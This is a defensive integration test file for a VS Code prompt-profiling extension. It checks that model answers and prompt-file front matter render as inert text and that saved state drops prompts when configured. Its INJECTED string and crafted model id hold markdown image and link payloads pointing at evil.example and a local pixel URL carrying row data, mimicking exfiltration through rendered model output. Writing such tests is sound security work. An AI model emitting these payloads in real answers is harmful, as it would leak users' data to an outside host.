// Issue 11 in the real extension host: text from models and prompt files is data (the batch
// report and the hover render no image or link from an answer or front matter), and the saved
// panel state keeps no prompt when promptProfiler.history.includePrompts is off.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import MarkdownIt from 'markdown-it';
import * as vscode from 'vscode';
import type { BatchOutcome } from '../../src/extension/batch/batchManager';
import type { PromptProfilerApi } from '../../src/extension/extension';
import { GPT, HAIKU, fake, getApi, openFixture, profile, restoreSettings, selectLine, setSetting, sleep, useModels, waitFor, workspaceUri } from './helpers';

// As VS Code's Markdown preview parses: GFM tables, bare URLs linkified, HTML allowed.
const md = new MarkdownIt({ html: true, linkify: true });
const INJECTED = '![s](http://127.0.0.1:9/pixel.png?d=ROW_DATA) [open](http://evil.example/) <img src="http://127.0.0.1:9/i.png"> www.evil.example';

function assertInert(markdown: string, what: string): void {
  const html = md.render(markdown);
  assert.doesNotMatch(html, /<img\b|<a\b/, `${what} renders an image or a link:\n${html}`);
}

describe('untrusted text: reports, hover, saved state (issue 11)', function () {
  this.timeout(120_000);
  let api: PromptProfilerApi;

  before(async () => {
    api = await getApi();
  });
  after(async () => {
    await fake.profiles({ 'gpt-4o-mini': {} });
    await restoreSettings();
  });

  it('3. the batch results report shows an answer with an image and a link as text', async () => {
    await fake.reset();
    await fake.profiles({ 'gpt-4o-mini': { output: INJECTED } });
    await setSetting('batch.pollIntervalSeconds', 0.05);
    const dir = workspaceUri('untrusted-batch').fsPath;
    fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(path.join(dir, 't.prompt'), 'Echo row {{n}}\n');
    fs.writeFileSync(path.join(dir, 'rows.jsonl'), '{"n":1}\n{"n":2}\n');
    try {
      let settled = false;
      const task = Promise.resolve(
        vscode.commands.executeCommand<BatchOutcome>('promptProfiler.runAsBatch', { template: 'untrusted-batch/t.prompt', dataset: 'untrusted-batch/rows.jsonl', model: GPT, showResults: false }),
      ).finally(() => (settled = true));
      while (!settled) {
        await fetch(`${fake.url}/__admin/batches/advance`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ complete: true }) });
        await Promise.race([task, sleep(100)]);
      }
      const outcome = await task;
      assert.equal(outcome.status, 'ended', outcome.error);
      assert.deepEqual(outcome.report!.rows.map((r) => r.output), [INJECTED, INJECTED], 'the answers carried the injection');
      const doc = api.reports.get(outcome.document!);
      assert.ok(doc, 'no results report');
      assertInert(doc, 'the batch report');
      // The answer is still there to read, as text.
      assert.ok(md.render(doc).includes('![s](http://127.0.0.1:9/pixel.png?d=ROW_DATA) [open](http://evil.example/) &lt;img'), doc);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it("3. a .prompt file's front-matter model id cannot close the hover's code span or add an image or link", async () => {
    const file = workspaceUri('untrusted-hover.prompt');
    const id = 'x:m` ![i](http://127.0.0.1:9/p.png) [l](http://evil.example) `|';
    fs.writeFileSync(file.fsPath, `---\nmodel: ${JSON.stringify(id)}\n---\nWrite a haiku about tides.\n`);
    try {
      const editor = await vscode.window.showTextDocument(await vscode.workspace.openTextDocument(file));
      const hovers = await waitFor('a hover', async () => {
        const h = await vscode.commands.executeCommand<vscode.Hover[]>('vscode.executeHoverProvider', editor.document.uri, new vscode.Position(3, 3));
        return h.length ? h : undefined;
      });
      const contents = hovers.flatMap((h) => h.contents).filter((c): c is vscode.MarkdownString => typeof c !== 'string' && 'value' in c);
      const text = contents.map((c) => c.value).join('\n');
      assert.ok(text.includes('Prompt Profiler'), text);
      assertInert(text, 'the hover');
      assert.ok(md.render(text).includes(`<code>${md.utils.escapeHtml(id)}</code>`), md.render(text));
      for (const c of contents) {
        assert.equal(c.isTrusted, false);
        assert.equal(c.supportThemeIcons, false);
        assert.ok(!c.supportHtml);
      }
    } finally {
      await vscode.commands.executeCommand('workbench.action.closeActiveEditor');
      fs.rmSync(file.fsPath, { force: true });
    }
  });

  it('7. with history.includePrompts off, the saved panel state holds no prompt text', async () => {
    await setSetting('history.includePrompts', false);
    await waitFor('includePrompts off', () => !api.services.config.value.history.includePrompts);
    await useModels(api, [GPT, HAIKU]);
    await fake.reset();
    const editor = await openFixture('notes.md');
    const prompt = selectLine(editor, 'Translate');
    const summary = await profile(true);
    assert.ok(summary.results.every((r) => r.ok));
    const state = api.services.context.workspaceState;
    await waitFor('the panel state to be saved', () => (state.get<{ state: { runId: number } }>('promptProfiler.lastPanelState')?.state ? true : undefined));
    assert.equal(state.get('promptProfiler.lastRun'), undefined, 'the last run (with its prompt) was saved');
    const saved = state.get<{ state: { promptPreview: string; columns: { output: string }[] } }>('promptProfiler.lastPanelState')!.state;
    assert.deepEqual(
      saved.columns.map((c) => c.output),
      summary.results.map((r) => r.output),
      'the saved state holds the answers (so the check looked at something)',
    );
    assert.equal(saved.promptPreview, '');
    // Answers may quote the prompt; nothing else in the saved state may.
    const rest = JSON.stringify({ ...saved, columns: saved.columns.map((c) => ({ ...c, output: '' })) });
    const words = prompt.replace(/\s+/g, ' ').trim();
    assert.ok(words.length > 10);
    assert.ok(!rest.includes(words.slice(0, 30)), `the prompt is in the saved state: ${rest.slice(0, 400)}`);
  });
});
